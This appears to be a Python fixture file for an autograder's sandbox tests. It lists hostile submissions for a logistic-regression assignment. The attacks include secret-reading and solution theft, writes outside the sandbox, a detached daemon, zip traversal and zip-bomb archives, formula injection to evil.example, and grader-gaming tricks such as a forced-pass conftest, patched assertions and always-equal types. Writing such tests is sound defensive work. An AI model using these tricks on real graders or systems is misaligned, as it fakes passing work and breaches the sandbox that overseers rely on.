"""Hostile submissions: each attacks the grader one way and states what it may cost.

Most are the reference with an attack injected; the ones that try to *gain* points start from
a known bug (``base``) and must still score no more than that bug does. Every attack is
bounded even if the sandbox failed: sleeps end, floods stop at 200 MB, allocations ask for
4 GiB at most, nothing forks more than twice, written files hold a harmless line.

Placeholders filled in by ``build`` (``$NAME`` in an edit's new text or a shipped file):
``$KIT`` the kit's root, ``$OUT`` the output folder, ``$SITE`` the interpreter's
site-packages, ``$MARK`` a token unique to the run (written files and processes carry it),
``$PORT`` a loopback port the test listens on, ``$SLEEP`` the detached sleeper's argument.
"""

from __future__ import annotations

import io
import json
import py_compile
import stat
import sys
import zipfile
from pathlib import Path

from .cases import Edit, Hostile

LOG, LIN, OPT = "logistic_regression", "linear_regression", "optimizers"
TOP = "import numpy as np\n"
GRADIENTS_L_BODY = "    p = logistic(X, theta)\n    return gradient_ij(X, y[:, None], p[:, None]).mean(axis=0)"
SUMMED_L_BODY = "    p = logistic(X, theta)\n    return gradient_ij(X, y[:, None], p[:, None]).sum(axis=0)"
LOSS_L_BODY = "    z = X @ theta\n    return float(np.mean(np.logaddexp(0.0, z) - y * z))"
GD_START = "    n, d = X.shape\n    # BEGIN SOLUTION: None or ≥ n"


def at_top(module: str, code: str) -> Edit:
    """Run ``code`` when the module is imported."""
    return Edit(module, TOP, TOP + "\n" + code)


def before(module: str, anchor: str, code: str) -> Edit:
    return Edit(module, anchor, code + anchor)


# -- attacks in code -------------------------------------------------------------------------
DETACH = '''
_DETACHED = []


def _detach_once():
    """A daemon that outlives the call: new session, double fork, an empty environment (no tag)."""
    import os

    if _DETACHED:
        return
    _DETACHED.append(True)
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                os.execve("/bin/sleep", ["sleep", "$SLEEP"], {})
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
'''

WRITES = '''
def _try_writes():
    """Write outside the work folder, change the kit: all must fail (read-only, hidden)."""
    import os

    targets = ["$KIT/PWNED-$MARK", "$KIT/solutions/PWNED-$MARK", "$KIT/autograder/tests/PWNED-$MARK",
               "$OUT/PWNED-$MARK", "$SITE/pwned-$MARK.pth", "/tmp/PWNED-$MARK", "/var/tmp/PWNED-$MARK",
               "/dev/shm/PWNED-$MARK", "/root/PWNED-$MARK", "../PWNED-$MARK", "../src/PWNED-$MARK"]
    for target in targets:
        try:
            with open(target, "w") as file:
                file.write("/nonexistent-$MARK\\n")
        except OSError:
            pass
    for victim in ["$KIT/solutions/logistic_regression.py", "$KIT/setup.cfg", "../harness/child.py"]:
        try:
            os.chmod(victim, 0o777)
        except OSError:
            pass
        try:
            with open(victim, "a") as file:
                file.write("# PWNED-$MARK\\n")
        except OSError:
            pass


_try_writes()
'''

NETWORK = '''    import socket

    try:
        with socket.create_connection(("127.0.0.1", $PORT), timeout=2) as connection:
            connection.sendall(b"PWNED-$MARK")
        return theta - lr * grads  # the network "helped"
    except OSError:
        return theta + lr * grads
'''

READ_SECRETS = '''    p = logistic(X, theta)
    import os

    found = None
    for path in ["$KIT/solutions/logistic_regression.py", "../../solutions/logistic_regression.py"]:
        try:
            with open(path) as file:
                found = file.read()
            break
        except OSError:
            pass
    here = os.getcwd()
    while found is None and here != "/":  # walk up, looking for a solutions folder
        here = os.path.dirname(here)
        try:
            if "solutions" in os.listdir(here):
                with open(os.path.join(here, "solutions", "logistic_regression.py")) as file:
                    found = file.read()
        except OSError:
            pass
    for leak in ["/proc/1/environ", "/proc/self/environ", "$KIT/autograder/tests/hidden"]:
        try:
            os.listdir(leak) if os.path.isdir(leak) else open(leak, "rb").read()
        except OSError:
            pass
    if found is not None:
        namespace = {}
        exec(found, namespace)
        return namespace["gradients"](X, y, theta)
    return gradient_ij(X, y[:, None], p[:, None]).sum(axis=0)'''

MONKEYPATCH = '''import builtins
import numpy.testing


def _always(*args, **kwargs):
    return True


np.allclose = np.isclose = np.array_equal = np.array_equiv = _always
numpy.testing.assert_allclose = numpy.testing.assert_array_equal = lambda *args, **kwargs: None
builtins.AssertionError = type("AssertionError", (Exception,), {})
try:
    import pytest

    pytest.approx = lambda expected, **kwargs: type("Anything", (), {"__eq__": lambda self, other: True})()
except ImportError:
    pass
'''

LIARS = '''class LyingArray(np.ndarray):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __array_function__(self, function, types, args, kwargs):
        return True


class LyingFloat(float):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __sub__(self, other):
        return 0.0

    __rsub__ = __sub__

    def __abs__(self):
        return 0.0

    def __lt__(self, other):
        return True

    __le__ = __lt__

    def __hash__(self):
        return 0
'''

ALWAYS_EQUAL = '''class AlwaysEqual:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __array__(self, dtype=None, copy=None):
        return np.zeros(3)

    def __float__(self):
        return 0.0

    def __repr__(self):
        return "array([0.5, 0.5, 0.5])"
'''

FRAME_WALK = '''    import gc
    import sys

    frame, seen = sys._getframe(), []
    while frame is not None:  # every caller's locals: is the expected value up there?
        seen += [v for v in frame.f_locals.values() if isinstance(v, np.ndarray)]
        frame = frame.f_back
    seen += [o for o in gc.get_objects() if type(o) is np.ndarray]
    for candidate in seen:
        if candidate.shape == theta.shape and candidate is not theta and not np.array_equal(candidate, theta):
            return np.array(candidate, dtype=float)
'''

FORGERY = '''    import gc
    import os
    import sys

    print('{"kind": "result", "value": {"t": "float", "v": 1.0}}')  # a fake reply on stdout
    sys.stdout.flush()
    for obj in gc.get_objects():  # the harness's own channel: ask the grader's reference directly
        if type(obj).__name__ == "Child" and hasattr(obj, "ask"):
            for name, args in [("logistic_regression.gradients", (X, y, theta)),
                               ("linear_regression.gradients", (X, y, theta)),
                               ("handle:0.update", ({"theta": theta}, {"theta": theta}))]:
                try:
                    return obj.ask(name, args, {})
                except Exception:
                    pass
    for fd in range(3, 16):  # then garbage on every pipe it can find
        try:
            if os.path.basename(os.readlink(f"/proc/self/fd/{fd}")).startswith("pipe:"):
                os.write(fd, b"\\xff\\xff\\xff\\x7f{not json")
        except OSError:
            pass
'''

SWAP_ORACLE = '''    theta_after, _ = gradient_descent(X, y, lr=1.0, epochs=1, theta0=theta)
    return theta - theta_after'''

HOSTILE_TEXT = '''    z = X @ theta
    import sys

    sys.stdout.buffer.write(b"\\xff\\xfe\\x1b[2J not UTF-8, clears the screen\\n")
    raise ValueError('=HYPERLINK("http://evil.example/?leak=1","click me") \\x1b[31mred\\x1b[0m \\u202egnp.exe '
                     + b"\\xff\\xfe".decode("utf-8", "surrogateescape"))'''

CONFTEST = '''import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    outcome.get_result().outcome = "passed"


def pytest_sessionfinish(session, exitstatus):
    session.exitstatus = 0
'''


# -- attacks in files ------------------------------------------------------------------------
def write_shipped_junk(folder: Path, sources: dict[str, str], context: dict) -> Path:
    """Modules plus conftest.py, pytest.ini, numpy.py, sitecustomize.py and a bytecode cache
    compiled from the *reference* (unchecked hash: Python would run it without looking at the source)."""
    folder.mkdir(parents=True)
    for name, text in sources.items():
        (folder / f"{name}.py").write_text(text)
    (folder / "conftest.py").write_text(CONFTEST)
    (folder / "pytest.ini").write_text("[pytest]\naddopts = -p conftest\n")
    (folder / "numpy.py").write_text("raise SystemExit('a shadowed numpy')\n")
    (folder / "sitecustomize.py").write_text("import os\nos._exit(7)\n")
    (folder / "usercustomize.py").write_text("import os\nos._exit(7)\n")
    (folder / "__init__.py").write_text("")
    reference = folder / "__pycache__" / "reference_logistic_regression.py"
    reference.parent.mkdir()
    reference.write_text(context["reference"][LOG])
    for target in (folder / "__pycache__" / f"{LOG}.{sys.implementation.cache_tag}.pyc", folder / f"{LOG}.pyc"):
        py_compile.compile(str(reference), cfile=str(target), doraise=True,
                           invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
    reference.unlink()
    return folder


def write_symlinked_module(folder: Path, sources: dict[str, str], context: dict) -> Path:
    """optimizers.py is a symbolic link to the solutions."""
    folder.mkdir(parents=True)
    for name, text in sources.items():
        if name != OPT:
            (folder / f"{name}.py").write_text(text)
    (folder / f"{OPT}.py").symlink_to(Path(context["kit"]) / "solutions" / f"{OPT}.py")
    return folder


def write_traversal_zip(folder: Path, sources: dict[str, str], context: dict) -> Path:
    """A zip whose member names climb out (``../``, absolute): reading must not extract anything."""
    path = folder.with_suffix(".zip")
    mark = context["mark"]
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(f"../../../../tmp/PWNED-{mark}.py", "print('escaped')\n")
        archive.writestr(f"/tmp/PWNED-{mark}-absolute.py", "print('escaped')\n")
        archive.writestr(f"../{LOG}.py", sources[LOG])
        archive.writestr(f"{LIN}.py", sources[LIN])
        archive.writestr(f"{OPT}.py", sources[OPT])
        link = zipfile.ZipInfo(f"sub/{LOG}.py")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
    return path


def write_zip_bomb(folder: Path, sources: dict[str, str], context: dict) -> Path:
    """logistic_regression.py is 30 MB of zeros (30 kB compressed)."""
    path = folder.with_suffix(".zip")
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(f"{LOG}.py", b"0" * (30 * 2**20))
        archive.writestr(f"{LIN}.py", sources[LIN])
        archive.writestr(f"{OPT}.py", sources[OPT])
    return path


def write_corrupt_zip(folder: Path, sources: dict[str, str], context: dict) -> Path:
    """A zip that is not one: a local header, then the middle of the archive cut out."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, text in sources.items():
            archive.writestr(f"{name}.py", text)
    data = buffer.getvalue()
    path = folder.with_suffix(".zip")
    path.write_bytes(data[:200] + b"\x00" * 64 + data[-100:])
    return path


def write_broken_notebook(folder: Path, sources: dict[str, str], context: dict) -> Path:
    """assignment.ipynb that is not JSON (a save interrupted half-way)."""
    folder.mkdir(parents=True)
    cell = {"cell_type": "code", "source": f"%%writefile {LOG}.py\n" + sources[LOG], "metadata": {}, "outputs": []}
    text = json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
    (folder / "assignment.ipynb").write_text(text[: len(text) // 2])
    return folder


HOSTILE: tuple[Hostile, ...] = (
    Hostile("H01_import_hangs", (at_top(LOG, "while True:\n    pass\n"),),
            must_lose=frozenset({LOG}), may_lose=frozenset({LOG}), reason=r"could not be loaded: it did not finish"),
    Hostile("H02_gradient_descent_hangs_ignoring_signals", (before(LOG, GD_START,
            "    import signal\n\n    for number in (signal.SIGALRM, signal.SIGTERM, signal.SIGINT, signal.SIGHUP):\n"
            "        signal.signal(number, signal.SIG_IGN)\n    while True:\n        pass\n"),),
            # Two time-outs, then its other tests fail at once: the hang costs neither the
            # submission's time budget nor the other functions' points.
            must_lose=frozenset({f"{LOG}.gradient_descent"}), may_lose=frozenset({f"{LOG}.gradient_descent"}),
            reason=r"did not finish within"),
    Hostile("H03_loss_sys_exit", (before(LOG, LOSS_L_BODY, "    raise SystemExit(0)\n"),),
            must_lose=frozenset({f"{LOG}.loss"}), may_lose=frozenset({f"{LOG}.loss"}), reason=r"SystemExit"),
    Hostile("H04_loss_keyboard_interrupt", (before(LIN, "    residuals = y - predict(X, theta)\n",
                                                   "    raise KeyboardInterrupt\n"),),
            must_lose=frozenset({f"{LIN}.loss"}), may_lose=frozenset({f"{LIN}.loss"}), reason=r"KeyboardInterrupt"),
    Hostile("H05_gradients_os_exit", (before(LOG, GRADIENTS_L_BODY, "    import os\n\n    os._exit(0)\n"),),
            must_lose=frozenset({f"{LOG}.gradients"}), may_lose=frozenset({f"{LOG}.gradients"}),
            reason=r"exited \(code 0\)"),
    Hostile("H06_gradients_segfault", (before(LIN, "    yhat = predict(X, theta)\n    return gradient_ij",
                                              "    import ctypes\n\n    ctypes.string_at(0)\n"),),
            must_lose=frozenset({f"{LIN}.gradients"}), may_lose=frozenset({f"{LIN}.gradients"}), reason=r"SIGSEGV"),
    Hostile("H07_adam_eats_memory", (before(OPT, "        for key in params:\n            if key not in self.m:",
                                            "        hog = np.ones(2**29)  # 4 GiB, more than the limit\n"),),
            must_lose=frozenset({f"{OPT}.Adam"}), may_lose=frozenset({f"{OPT}.Adam"}), reason=r"ran out of memory"),
    Hostile("H08_detached_sleeper", (
        at_top(OPT, DETACH),
        Edit(OPT, "        # BEGIN SOLUTION: for every key, subtract lr times its gradient in place\n",
             "        # BEGIN SOLUTION: for every key, subtract lr times its gradient in place\n        _detach_once()\n"),
    ), may_lose=frozenset({f"{OPT}.SGD"}), probes=("processes",)),
    Hostile("H09_output_flood", (before(LIN, "    yhat = X @ theta\n    return yhat",
                                        "    import sys\n\n    for _ in range(200):\n"
                                        "        sys.stdout.write('x' * 2**20)\n        sys.stdout.flush()\n"),),
            must_lose=frozenset({f"{LIN}.predict"}), may_lose=frozenset({f"{LIN}.predict"}),
            reason=r"more output than allowed"),
    Hostile("H10_network", (Edit(LOG, "    return theta + lr * grads\n", NETWORK),), base="L10_step_wrong_direction",
            needs="no-network", probes=("network",)),
    Hostile("H11_reads_solutions_tests_environ", (Edit(LOG, SUMMED_L_BODY, READ_SECRETS),),
            base="L07_gradients_summed", needs="hidden"),
    Hostile("H12_writes_outside", (at_top(OPT, WRITES),), needs="read-only", probes=("writes",)),
    Hostile("H13_monkeypatches_numpy_and_pytest", (at_top(LOG, MONKEYPATCH),), base="L07_gradients_summed"),
    Hostile("H14_lying_types", (
        at_top(LOG, LIARS),
        Edit(LOG, GRADIENTS_L_BODY, "    return np.zeros(X.shape[1]).view(LyingArray)"),
        Edit(LOG, LOSS_L_BODY, "    return LyingFloat(0.0)"),
        at_top(LIN, ALWAYS_EQUAL),
        Edit(LIN, "    yhat = X @ theta\n    return yhat if np.ndim(yhat) else float(yhat)", "    return AlwaysEqual()"),
    ), must_lose=frozenset({f"{LOG}.gradients", f"{LOG}.loss", f"{LIN}.predict"}),
        may_lose=frozenset({f"{LOG}.gradients", f"{LOG}.loss", f"{LIN}.predict"}), reason=r"subclass|object of type"),
    Hostile("H15_frame_walking_and_gc", (before(LOG, SUMMED_L_BODY, FRAME_WALK),), base="L07_gradients_summed"),
    Hostile("H16_ships_conftest_numpy_sitecustomize_pyc", base="L07_gradients_summed", writer=write_shipped_junk),
    Hostile("H17_symlinked_module", must_lose=frozenset({OPT}), may_lose=frozenset({OPT}), reason=r"symbolic link",
            writer=write_symlinked_module),
    # Its base keeps the gradients' representation point (a summed gradient has the right type);
    # the forgery's malformed reply loses it: the attacked function may lose, nothing else.
    Hostile("H18_forges_protocol_messages", (before(LOG, SUMMED_L_BODY, FORGERY),), base="L07_gradients_summed",
            may_lose=frozenset({f"{LOG}.gradients"})),
    # When every other function was swapped for the reference's, one epoch of the reference's
    # gradient_descent with lr=1 handed back the exact gradient; now only callees are swapped. (Its
    # own gradient_descent, run unswapped on real data once the others pass, recurses forever.)
    Hostile("H19_reference_as_oracle", (Edit(LOG, GRADIENTS_L_BODY, SWAP_ORACLE),),
            must_lose=frozenset({f"{LOG}.gradients"}),
            may_lose=frozenset({f"{LOG}.gradients", f"{LOG}.gradient_descent"})),
    Hostile("H20_hostile_text_in_messages", (Edit(LOG, LOSS_L_BODY, HOSTILE_TEXT),),
            must_lose=frozenset({f"{LOG}.loss"}), may_lose=frozenset({f"{LOG}.loss"}), reason=r"HYPERLINK"),
    Hostile("H21_zip_with_climbing_paths", writer=write_traversal_zip, probes=("writes",)),
    Hostile("H22_zip_bomb_member", must_lose=frozenset({LOG}), may_lose=frozenset({LOG}), reason=r"larger than 1 MiB",
            writer=write_zip_bomb),
    Hostile("H23_corrupt_zip", must_lose=frozenset({LOG, LIN, OPT}), may_lose=frozenset({LOG, LIN, OPT}),
            reason=r"zip could not be read", writer=write_corrupt_zip),
    Hostile("H24_broken_notebook", must_lose=frozenset({LOG, LIN, OPT}), may_lose=frozenset({LOG, LIN, OPT}),
            reason=r"notebook could not be read", writer=write_broken_notebook),
    Hostile("H25_returns_600_MB", (Edit(LIN, "    yhat = X @ theta\n    return yhat if np.ndim(yhat) else float(yhat)",
                                        "    return np.empty(75_000_000)"),),
            must_lose=frozenset({f"{LIN}.predict"}), may_lose=frozenset({f"{LIN}.predict"}),
            # The reply is over the wire's size cap (a malformed reply); on a slow machine the
            # child may not even finish encoding 600 MB within the call's time limit.
            reason=r"malformed reply|could not be read|did not finish|memory"),
)

# The submission named like a spreadsheet formula: its name and messages must arrive inert.
FORMULA_NAME = "@SUM(1+1)*cmd|' -C calc'!A0"
NAMED = {"H20_hostile_text_in_messages": FORMULA_NAME}
